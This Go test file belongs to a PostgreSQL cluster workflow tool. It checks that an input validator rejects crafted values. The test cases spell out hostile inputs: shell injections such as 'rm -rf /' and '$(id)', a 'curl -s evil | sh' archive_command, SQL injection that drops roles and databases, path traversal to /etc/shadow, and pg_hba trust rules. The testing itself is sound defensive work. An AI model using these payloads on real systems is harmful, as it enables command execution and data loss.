package activities_test

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/pigwf/pigwf/activities"
	haagent "github.com/pigwf/pigwf/ha-agent"
	"github.com/pigwf/pigwf/inventory"
	"github.com/pigwf/pigwf/pitr"
	"github.com/pigwf/pigwf/starter"
	"github.com/pigwf/pigwf/workflows"
)

// richInventory uses most of what pigwf reads: SSH settings, packages, kernel settings, users,
// databases, HBA rules of every kind, parameters, a name-addressed host and a non-default port.
const richInventory = `all:
  children:
    pg-test:
      hosts:
        10.0.0.11: { pg_seq: 1, pg_role: primary, ansible_port: 2222, ansible_ssh_private_key_file: /home/admin/.ssh/id_ed25519 }
        10.0.0.12: { pg_seq: 2, pg_role: replica, ansible_host: db12.example.com, nodename: db12.example.com, pg_tags: { noloadbalance: true, dc: east } }
        10.0.0.13: { pg_seq: 3, pg_role: offline, ansible_user: admin }
      vars:
        pg_cluster: pg-test
        pg_port: 5532
        pg_data: /data/pg
        pigwf_approvers: [alice, bob]
        pg_users:
          - { name: app, password: 'S3cr3t:with\back$lash', roles: [dbrole_readwrite], comment: "the app's user", connlimit: 20, createdb: true }
          - { name: dbuser_meta, password: x, login: false }
          - { name: old_app, state: absent }
        pg_databases:
          - { name: app, owner: app, comment: 'app data', connlimit: -1 }
          - { name: meta }
          - { name: old_app, state: absent }
        pg_hba_rules:
          - { user: +dbrole_readonly, db: all, addr: 10.0.0.0/8, auth: ssl }
          - { user: dbuser_meta, db: meta, addr: db.example.com, auth: md5 }
          - { user: all, db: replication, addr: local, auth: peer }
          - { user: app, db: app, addr: intra, auth: pwd }
          - { user: app, db: app, addr: cluster, auth: pwd }
          - { user: all, db: all, addr: world, auth: reject }
        pg_parameters: { shared_buffers: 1GB, pg_stat_statements.max: 10000, wal_level: logical, log_line_prefix: '%m [%p] ' }
    etcd:
      hosts: { 10.0.0.11: {}, 10.0.0.12: {} }
  vars:
    pigwf_known_hosts: /etc/pigwf/known_hosts
    node_packages: [ postgresql-15, pgbackrest, etcd-client, g++ ]
    node_limits: { nofile: 1048576, memlock: unlimited, core: -1 }
    node_sysctl_params: { vm.swappiness: 1, net.ipv4.ip_local_port_range: 10000 65535 }
    etcd_port: 2479
`

// validInputs are the activity inputs runs build from richInventory, as the workflows build them.
func validInputs(t *testing.T) map[string]activities.Validator {
	t.Helper()
	inv, err := inventory.ParseInventory("/etc/pigwf/inventory.yml", []byte(richInventory))
	if err != nil {
		t.Fatal(err)
	}
	cl, err := inv.Cluster("pg-test")
	if err != nil {
		t.Fatal(err)
	}
	ni, err := starter.NodeInitInput(cl, nil)
	if err != nil {
		t.Fatal(err)
	}
	pc, err := starter.PgClusterCreateInput(inv, cl, "/etc/pigwf/inventory.yml")
	if err != nil {
		t.Fatal(err)
	}
	// The DCS config is seeded with the user's own pg_parameters, not pigwf's defaults.
	if want := map[string]string{"shared_buffers": "1GB", "pg_stat_statements.max": "10000", "wal_level": "logical", "log_line_prefix": "%m [%p] "}; !reflect.DeepEqual(pc.PgParameters, want) {
		t.Fatalf("pg_parameters seeding the DCS config: %v, want %v", pc.PgParameters, want)
	}
	so, err := starter.SwitchoverInput(inv, cl, "db12.example.com", "maintenance", "carol", time.Time{}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := starter.PgRestartInput(inv, cl, starter.PgRestartRequest{Member: "db12.example.com"}, "carol")
	if err != nil {
		t.Fatal(err)
	}
	pr, err := starter.PITRRestoreInput(inv, cl, starter.PITRRequest{Flags: pitr.Flags{Time: "2026-11-30T09:00:00+02:00"}}, "carol")
	if err != nil {
		t.Fatal(err)
	}
	pr.Spec.Key = "20261130T090000Z"
	// pg-backup from a standby: the spec with every member as a client of the pgBackRest servers.
	replicaInv, err := inventory.ParseInventory("/etc/pigwf/inventory.yml", []byte(strings.Replace(richInventory, "        pg_port: 5532\n", "        pg_port: 5532\n        pg_backup_source: replica\n", 1)))
	if err != nil {
		t.Fatal(err)
	}
	replicaCl, err := replicaInv.Cluster("pg-test")
	if err != nil {
		t.Fatal(err)
	}
	pb, err := starter.PgBackupInput(replicaInv, replicaCl, "incr", "carol")
	if err != nil {
		t.Fatal(err)
	}
	if len(pb.Spec.BackupClients) != 3 {
		t.Fatalf("backup clients %v", pb.Spec.BackupClients)
	}
	pu, err := starter.PgUsersInput(inv, cl, "/etc/pigwf/inventory.yml", starter.ObjectsRequest{}, "carol")
	if err != nil {
		t.Fatal(err)
	}
	pd, err := starter.PgDatabasesInput(inv, cl, "/etc/pigwf/inventory.yml", starter.ObjectsRequest{Name: "old_app"}, "carol")
	if err != nil {
		t.Fatal(err)
	}
	ph, err := starter.PgHBAInput(inv, cl, "/etc/pigwf/inventory.yml", true)
	if err != nil {
		t.Fatal(err)
	}
	mr, err := starter.PgMemberRemoveInput(inv, cl, starter.PgMembersRequest{Member: "db12.example.com"}, "carol")
	if err != nil {
		t.Fatal(err)
	}
	mn := activities.MemberNodeInput{Member: mr.Member, Node: mr.Nodes[1], Spec: mr.Spec, Key: "20261130T174800Z"}
	// pg-cluster-create creates what is not absent; pg-users and pg-databases carry every entry.
	if len(pc.Users) != 2 || len(pc.Databases) != 2 || len(pu.Users) != 3 || !pu.Users[2].Absent || len(pd.Databases) != 3 || !pd.Databases[2].Absent {
		t.Fatalf("users %+v, databases %+v; pg-users %+v, pg-databases %+v", pc.Users, pc.Databases, pu.Users, pd.Databases)
	}
	objects := func(t workflows.PgObjectsTarget) activities.PgObjectsInput {
		return activities.PgObjectsInput{Leader: t.Nodes[0], Cluster: t.Cluster, Port: t.Port, InventoryFile: t.InventoryFile}
	}
	primary, replica := pc.Members[0], pc.Members[1]
	// pg_tags reaches the workflow's input as the member's tags.
	if want := (haagent.ClusterTags{NoLoadBalance: true, Custom: map[string]string{"dc": "east"}}); !reflect.DeepEqual(replica.Tags, want) {
		t.Fatalf("%s's tags in the input: %+v, want %+v", replica.Name, replica.Tags, want)
	}
	var names []string
	for _, m := range pc.Members {
		names = append(names, m.Name)
	}
	node := activities.PgNodeInput{Node: replica.Node, Spec: pc.Spec, Primary: primary.Node, Etcd: pc.DCS.Endpoints, Members: names}
	apiURL := activities.AgentAPIURL(primary.Node.SSHHost, pc.APIPort, pc.DCS.Plaintext)
	pn := activities.PITRNodeInput{Member: pr.Members[1].Name, Node: pr.Members[1].Node, Spec: pr.Spec}
	ha := activities.PITRHAInput{DCS: pr.DCS, Members: pr.Members, By: "pitr-restore " + pr.Spec.Key, Reason: "restore", Leader: pr.Members[0].Name}
	return map[string]activities.Validator{
		"Node":                 ni.Nodes[0].Node,
		"NodeIdentityInput":    activities.NodeIdentityInput{Node: ni.Nodes[1].Node, Hosts: ni.Hosts},
		"NodePackagesInput":    activities.NodePackagesInput{Node: ni.Nodes[2].Node, Packages: ni.Nodes[2].Packages},
		"NodeKernelInput":      activities.NodeKernelInput{Node: ni.Nodes[0].Node, Sysctl: ni.Nodes[0].Sysctl, Limits: ni.Nodes[0].Limits},
		"NodeCACertInput":      activities.NodeCACertInput{Node: ni.Nodes[0].Node, Fingerprint: strings.Repeat("ab", 32)},
		"NodeCertInput":        activities.NodeCertInput{Node: ni.Nodes[1].Node, Fingerprint: strings.Repeat("ab", 32)},
		"PgNodeInput":          node,
		"PgNodeInput precheck": activities.PgNodeInput{Node: primary.Node, Spec: pc.Spec, Etcd: pc.DCS.Endpoints},
		"AgentInput": activities.AgentInput{Node: replica.Node, Member: replica.Name, Spec: pc.Spec, DCS: pc.DCS, APIPort: pc.APIPort, NoFailover: true,
			Tags: replica.Tags},
		"SQLInput roles": activities.SQLInput{Primary: primary.Node, Spec: pc.Spec, Roles: pc.Roles, Step: activities.StepRoles},
		"SQLInput users": activities.SQLInput{Primary: primary.Node, Spec: pc.Spec, Roles: pc.Users, Databases: pc.Databases, Step: activities.StepUsers},
		"DCSInput":       pc.DCS,
		"DCSRegisterInput": activities.DCSRegisterInput{DCS: pc.DCS, Primary: primary.Name, Sysid: "7300000000000000001", RPO: 1 << 20,
			Parameters: pc.PgParameters},
		"WaitLeaderInput":               activities.WaitLeaderInput{DCS: pc.DCS, Member: primary.Name, APIURL: apiURL},
		"VerifyInput":                   activities.VerifyInput{DCS: pc.DCS, Primary: primary.Name, APIURL: apiURL, Replicas: names[1:]},
		"SwitchoverCheckInput":          activities.SwitchoverCheckInput{DCS: so.DCS, Members: so.Members, Candidate: so.Candidate, MaxLagBytes: so.MaxLagBytes},
		"SwitchoverExecInput":           activities.SwitchoverExecInput{DCS: so.DCS, Members: so.Members, From: names[0], To: names[1], Reason: "maintenance", Requester: "carol"},
		"MemberRestartInput":            activities.MemberRestartInput{DCS: rs.DCS, Member: rs.Members[1], Pending: true, StartedBefore: time.Now()},
		"MemberReloadInput":             activities.MemberReloadInput{Member: rs.Members[0]},
		"WaitMembersInput":              activities.WaitMembersInput{DCS: rs.DCS, Members: rs.Members, Targets: names[1:], Until: activities.UntilStreaming, Timeout: time.Minute},
		"ClusterStateInput":             activities.ClusterStateInput{DCS: rs.DCS, Members: rs.Members},
		"ClusterStateInput without DCS": activities.ClusterStateInput{Members: rs.Members},
		"PITRCheckInput":                activities.PITRCheckInput{DCS: pr.DCS, Members: pr.Members, Spec: pr.Spec, Target: pr.Target},
		"PITRNodeInput":                 pn,
		"PITRStopInput":                 activities.PITRStopInput{PITRNodeInput: pn, SwitchWAL: true},
		"PITRHAInput":                   ha,
		"PITRHandOverInput":             activities.PITRHandOverInput{PITRHAInput: ha, Holder: pr.Members[1].Name, Timeline: 3, Optime: "0/3000060"},
		"PITRWaitInput":                 activities.PITRWaitInput{PITRHAInput: ha, Timeline: 3, AnyLeader: true, Port: pr.Spec.Port},
		"PITRBackupInput":               activities.PITRBackupInput{PITRNodeInput: pn, Timeline: 3, DCS: pr.DCS, Members: pr.Members},
		"PITRCleanupInput":              activities.PITRCleanupInput{Members: pr.Members, Spec: pr.Spec},
		"BackupInput": activities.BackupInput{Node: pb.Nodes[1], Spec: pb.Spec, Type: pb.Type, Key: "0196b2c4-8d3e-7b1a-9f2e-4c5d6e7f8a9b",
			Leader: pb.Nodes[0].Name},
		"BackupServerInput":          activities.PgNodeInput{Node: pb.Nodes[0], Spec: pb.Spec},
		"ExclusiveInput":             activities.ExclusiveInput{Cluster: pb.Cluster, WorkflowID: "pg-backup/pg-test/scheduled-2026-12-01T02:00:00Z", RunID: "r"},
		"PgObjectsInput users":       withUsers(objects(pu.PgObjectsTarget), pu.Users),
		"PgObjectsInput databases":   withDatabases(objects(pd.PgObjectsTarget), pd.Databases),
		"PgHBAInput":                 activities.PgHBAInput{PgNodeInput: activities.PgNodeInput{Node: ph.Members[1].Node, Spec: ph.Spec}, DryRun: true},
		"MemberNodeInput":            mn,
		"AgentStopInput":             activities.AgentStopInput{MemberNodeInput: mn, Disable: true, DCS: mr.DCS},
		"AgentStopInput without DCS": activities.AgentStopInput{MemberNodeInput: mn},
		"DataAsideInput":             activities.DataAsideInput{MemberNodeInput: mn, Why: activities.AsideRemoved},
		"MemberForgetInput":          activities.MemberForgetInput{DCS: mr.DCS, Member: mr.Member, Members: mr.Members, Timeout: time.Minute},
		"SlotDropInput":              activities.SlotDropInput{Member: mr.Member, Members: mr.Members, Nodes: mr.Nodes, Port: mr.Spec.Port},
		"ClusterKeysInput":           activities.ClusterKeysInput{DCS: mr.DCS},
	}
}

func withUsers(in activities.PgObjectsInput, users []activities.RoleSpec) activities.PgObjectsInput {
	in.Users = users
	return in
}

func withDatabases(in activities.PgObjectsInput, dbs []activities.DatabaseSpec) activities.PgObjectsInput {
	in.Databases, in.AllowDrop = dbs, true
	return in
}

// What the CLI builds from a good inventory passes the worker's check: the check refuses crafted
// inputs, not the runs pigwf starts.
func TestValidInputsPass(t *testing.T) {
	for name, in := range validInputs(t) {
		if err := in.Validate(); err != nil {
			t.Errorf("%s refused:\n%v", name, err)
		}
	}
}

// Crafted inputs, each a good one with one hostile value, are refused naming the field (a
// cluster name or port also disagrees with the settings pigwf derives from it).
func TestHostileInputsRefused(t *testing.T) {
	good := validInputs(t)
	cases := []struct {
		input string
		field string // of the problem expected
		craft func(v activities.Validator) activities.Validator
	}{
		{"Node", "node.addr", func(v activities.Validator) activities.Validator {
			n := v.(activities.Node)
			n.Addr = "10.0.0.1;rm -rf /"
			return n
		}},
		{"Node", "node.ssh_host", func(v activities.Validator) activities.Validator {
			n := v.(activities.Node)
			n.SSHHost = "-oProxyCommand=id"
			return n
		}},
		{"Node", "node.ssh_port", func(v activities.Validator) activities.Validator {
			n := v.(activities.Node)
			n.SSHPort = 70000
			return n
		}},
		{"Node", "node.ssh_user", func(v activities.Validator) activities.Validator {
			n := v.(activities.Node)
			n.SSHUser = "root id"
			return n
		}},
		{"Node", "node.name", func(v activities.Validator) activities.Validator {
			n := v.(activities.Node)
			n.Name = "pg-1\n10.6.6.6 evil"
			return n
		}},
		{"Node", "node.ssh_key_file", func(v activities.Validator) activities.Validator {
			n := v.(activities.Node)
			n.SSHKeyFile = "id_rsa"
			return n
		}},
		{"NodeCertInput", "node.name", func(v activities.Validator) activities.Validator {
			in := v.(activities.NodeCertInput)
			in.Node.Name = "*.example.com"
			return in
		}},
		{"NodeIdentityInput", "hosts[1].addr", func(v activities.Validator) activities.Validator {
			in := v.(activities.NodeIdentityInput)
			in.Hosts = append([]activities.HostEntry(nil), in.Hosts...)
			in.Hosts[1].Addr = "10.0.0.12 evil.example.com"
			return in
		}},
		{"NodePackagesInput", "packages[1]", func(v activities.Validator) activities.Validator {
			in := v.(activities.NodePackagesInput)
			in.Packages = []string{"postgresql-15", "-o=Dpkg::Options::=--force-confnew"}
			return in
		}},
		{"NodeKernelInput", "sysctl.vm.swappiness", func(v activities.Validator) activities.Validator {
			in := v.(activities.NodeKernelInput)
			in.Sysctl = map[string]string{"vm.swappiness": "1\nkernel.modprobe = /tmp/x"}
			return in
		}},
		{"NodeKernelInput", "limits.nofile", func(v activities.Validator) activities.Validator {
			in := v.(activities.NodeKernelInput)
			in.Limits = map[string]string{"nofile": "$(id)"}
			return in
		}},
		{"PgNodeInput", "spec.cluster", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.Cluster = "pg-test'"
			return in
		}},
		{"PgNodeInput", "spec.data_dir", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.DataDir = "/pg/data$(reboot)"
			return in
		}},
		{"PgNodeInput", "spec.port", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.Port = 0
			return in
		}},
		{"PgNodeInput", "spec.parameters.archive_command", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			// A crafted map: Parameters itself would keep pigwf's archive_command.
			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, false, nil)
			in.Spec.Parameters["archive_command"] = "curl -s evil | sh"
			return in
		}},
		{"PgNodeInput", "spec.parameters.shared_buffers", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, false, map[string]string{"shared_buffers": "1GB'\ninclude '/tmp/x"})
			return in
		}},
		{"DCSRegisterInput", "parameters.archive_command", func(v activities.Validator) activities.Validator {
			in := v.(activities.DCSRegisterInput)
			in.Parameters = map[string]string{"archive_command": "curl -s evil | sh"}
			return in
		}},
		{"PgNodeInput", "spec.hba[3]", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.HBA = append([]string(nil), in.Spec.HBA...)
			in.Spec.HBA[3] = "host all all 10.0.0.0/8 md5\nhost all all 0.0.0.0/0 trust"
			return in
		}},
		{"PgNodeInput", "spec.hba[4].addr", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.HBA = append([]string(nil), in.Spec.HBA...)
			in.Spec.HBA[4] = "host all all 10.0.0.0/8,0.0.0.0/0 md5"
			return in
		}},
		{"PgNodeInput", "spec.inventory_file", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Spec.InventoryFile = "../../etc/shadow"
			return in
		}},
		{"PgNodeInput", "etcd[0]", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Etcd = []string{"http://10.0.0.11:70000"}
			return in
		}},
		{"PgNodeInput", "members[1]", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Members = []string{"pg-test-1", "pg-test-2;id"}
			return in
		}},
		{"PgNodeInput", "primary.addr", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgNodeInput)
			in.Primary.Addr = "`id`"
			return in
		}},
		{"AgentInput", "dcs.namespace", func(v activities.Validator) activities.Validator {
			in := v.(activities.AgentInput)
			in.DCS.Namespace = "/pigwf\"} {\"x"
			return in
		}},
		{"AgentInput", "api_port", func(v activities.Validator) activities.Validator {
			in := v.(activities.AgentInput)
			in.APIPort = -1
			return in
		}},
		{"AgentInput", "tags.dc", func(v activities.Validator) activities.Validator {
			in := v.(activities.AgentInput)
			in.Tags.Custom = map[string]string{"dc": "east\nnofailover: true"}
			return in
		}},
		{"AgentInput", "tags.clonefrom", func(v activities.Validator) activities.Validator {
			in := v.(activities.AgentInput)
			in.Tags.Custom = map[string]string{"clonefrom": "true"}
			return in
		}},
		{"SQLInput roles", "roles[0].name", func(v activities.Validator) activities.Validator {
			in := v.(activities.SQLInput)
			in.Roles = []activities.RoleSpec{{Name: `x" SUPERUSER; --`}}
			return in
		}},
		{"SQLInput roles", "roles[0].in_roles[0]", func(v activities.Validator) activities.Validator {
			in := v.(activities.SQLInput)
			in.Roles = []activities.RoleSpec{{Name: "app", InRoles: []string{"pg_read_server_files; DROP"}}}
			return in
		}},
		{"SQLInput roles", "roles[0].password", func(v activities.Validator) activities.Validator {
			in := v.(activities.SQLInput)
			in.Roles = []activities.RoleSpec{{Name: "app", Password: "hunter2"}}
			return in
		}},
		{"SQLInput users", "databases[0].owner", func(v activities.Validator) activities.Validator {
			in := v.(activities.SQLInput)
			in.Databases = []activities.DatabaseSpec{{Name: "app", Owner: "Postgres"}}
			return in
		}},
		{"SQLInput users", "spec.replication_user", func(v activities.Validator) activities.Validator {
			in := v.(activities.SQLInput)
			in.Spec.ReplicationUser = "replicator'"
			return in
		}},
		{"SQLInput users", "roles[0].absent", func(v activities.Validator) activities.Validator {
			in := v.(activities.SQLInput)
			in.Roles = []activities.RoleSpec{{Name: "app", Absent: true}}
			return in
		}},
		{"PgObjectsInput users", "users[0].name", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			in.Users = []activities.RoleSpec{{Name: `x"; DROP ROLE postgres; --`, Absent: true}}
			return in
		}},
		{"PgObjectsInput users", "users[0].connlimit", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			n := -5
			in.Users = []activities.RoleSpec{{Name: "app", ConnLimit: &n}}
			return in
		}},
		{"PgObjectsInput users", "users[0].comment", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			in.Users = []activities.RoleSpec{{Name: "app", Comment: "x\n\\! id"}}
			return in
		}},
		{"PgObjectsInput users", "leader.ssh_host", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			in.Leader.SSHHost = "-oProxyCommand=id"
			return in
		}},
		{"PgObjectsInput databases", "databases[0].name", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			in.Databases = []activities.DatabaseSpec{{Name: "app\"; DROP DATABASE postgres; --", Absent: true}}
			return in
		}},
		{"PgObjectsInput databases", "databases[0].owner", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			in.Databases = []activities.DatabaseSpec{{Name: "app", Owner: "app'; --"}}
			return in
		}},
		{"PgObjectsInput databases", "inventory_file", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgObjectsInput)
			in.InventoryFile = "inventory.yml"
			return in
		}},
		{"PgHBAInput", "spec.hba[3]", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgHBAInput)
			in.Spec.HBA = append([]string(nil), in.Spec.HBA...)
			in.Spec.HBA[3] = "host all all 10.0.0.0/8 md5\nhost all all 0.0.0.0/0 trust"
			return in
		}},
		{"PgHBAInput", "node.ssh_user", func(v activities.Validator) activities.Validator {
			in := v.(activities.PgHBAInput)
			in.Node.SSHUser = "root;id"
			return in
		}},
		{"DCSInput", "endpoints[1]", func(v activities.Validator) activities.Validator {
			in := v.(activities.DCSInput)
			in.Endpoints = []string{"http://10.0.0.11:2479", "http://attacker:2379/v3?x"}
			return in
		}},
		{"DCSInput", "cluster", func(v activities.Validator) activities.Validator {
			in := v.(activities.DCSInput)
			in.Cluster = "pg-test/../other"
			return in
		}},
		{"WaitLeaderInput", "api_url", func(v activities.Validator) activities.Validator {
			in := v.(activities.WaitLeaderInput)
			in.APIURL = "http://user:pw@10.0.0.11:8008"
			return in
		}},
		{"SwitchoverExecInput", "To", func(v activities.Validator) activities.Validator {
			in := v.(activities.SwitchoverExecInput)
			in.To = "Pg-Test-2"
			return in
		}},
		{"SwitchoverCheckInput", "members[0].api_url", func(v activities.Validator) activities.Validator {
			in := v.(activities.SwitchoverCheckInput)
			in.Members = []activities.MemberAPI{{Name: "pg-test-1", APIURL: "file:///etc/passwd"}}
			return in
		}},
		{"MemberRestartInput", "member.api_url", func(v activities.Validator) activities.Validator {
			in := v.(activities.MemberRestartInput)
			in.Member.APIURL = "https://10.0.0.12:8008/restart?x=1#"
			return in
		}},
		{"MemberRestartInput", "dcs.cluster", func(v activities.Validator) activities.Validator {
			in := v.(activities.MemberRestartInput)
			in.DCS.Cluster = "pg test"
			return in
		}},
		{"MemberReloadInput", "member.name", func(v activities.Validator) activities.Validator {
			in := v.(activities.MemberReloadInput)
			in.Member.Name = "pg-test-1/../x"
			return in
		}},
		{"WaitMembersInput", "targets[0]", func(v activities.Validator) activities.Validator {
			in := v.(activities.WaitMembersInput)
			in.Targets = []string{"pg-test-2\n"}
			return in
		}},
		{"ClusterStateInput", "members[1].api_url", func(v activities.Validator) activities.Validator {
			in := v.(activities.ClusterStateInput)
			in.Members = append([]activities.MemberAPI(nil), in.Members...)
			in.Members[1].APIURL = "gopher://10.0.0.12:8008"
			return in
		}},
		{"PITRStopInput", "spec.bin_dir", func(v activities.Validator) activities.Validator {
			in := v.(activities.PITRStopInput)
			in.Spec.BinDir = "/tmp/evil bin"
			return in
		}},
		{"PITRCheckInput", "members[1].node.ssh_host", func(v activities.Validator) activities.Validator {
			in := v.(activities.PITRCheckInput)
			in.Members = append([]activities.PITRMember(nil), in.Members...)
			in.Members[1].Node.SSHHost = "10.0.0.12 -p 2222"
			return in
		}},
		{"PITRHandOverInput", "holder", func(v activities.Validator) activities.Validator {
			in := v.(activities.PITRHandOverInput)
			in.Holder = "pg-test-2\"}"
			return in
		}},
		{"PITRWaitInput", "port", func(v activities.Validator) activities.Validator {
			in := v.(activities.PITRWaitInput)
			in.Port = 65536
			return in
		}},
		{"PITRBackupInput", "dcs.endpoints[0]", func(v activities.Validator) activities.Validator {
			in := v.(activities.PITRBackupInput)
			in.DCS.Endpoints = []string{"10.0.0.11:2379"}
			return in
		}},
		{"PITRCleanupInput", "spec.repo_path", func(v activities.Validator) activities.Validator {
			in := v.(activities.PITRCleanupInput)
			in.Spec.RepoPath = "/"
			return in
		}},
		// The key names a path the purge deletes: only a run's start passes.
		{"MemberNodeInput", "key", func(v activities.Validator) activities.Validator {
			in := v.(activities.MemberNodeInput)
			in.Key = "x/../../etc"
			return in
		}},
		{"MemberNodeInput", "spec.data_dir", func(v activities.Validator) activities.Validator {
			in := v.(activities.MemberNodeInput)
			in.Spec.DataDir = "/"
			return in
		}},
		{"DataAsideInput", "why", func(v activities.Validator) activities.Validator {
			in := v.(activities.DataAsideInput)
			in.Why = "x; rm -rf /"
			return in
		}},
		{"AgentStopInput", "dcs.endpoints[0]", func(v activities.Validator) activities.Validator {
			in := v.(activities.AgentStopInput)
			in.DCS.Endpoints = []string{"10.0.0.11:2379"}
			return in
		}},
		{"MemberForgetInput", "member", func(v activities.Validator) activities.Validator {
			in := v.(activities.MemberForgetInput)
			in.Member = "pg-1/../x"
			return in
		}},
		{"SlotDropInput", "port", func(v activities.Validator) activities.Validator {
			in := v.(activities.SlotDropInput)
			in.Port = 0
			return in
		}},
		{"ClusterKeysInput", "dcs.namespace", func(v activities.Validator) activities.Validator {
			in := v.(activities.ClusterKeysInput)
			in.DCS.Namespace = ""
			return in
		}},
	}
	for i, c := range cases {
		in := c.craft(good[c.input])
		err := in.Validate()
		var verr *inventory.ValidationError
		if !errors.As(err, &verr) {
			t.Errorf("case %d (%s, %s): not refused: %v", i+1, c.input, c.field, err)
			continue
		}
		named := false
		for _, p := range verr.Problems {
			named = named || p.Field == c.field
		}
		if !named || !strings.Contains(err.Error(), c.field+": ") {
			t.Errorf("case %d (%s): want a problem of %s, got:\n%v", i+1, c.input, c.field, err)
		}
	}
}
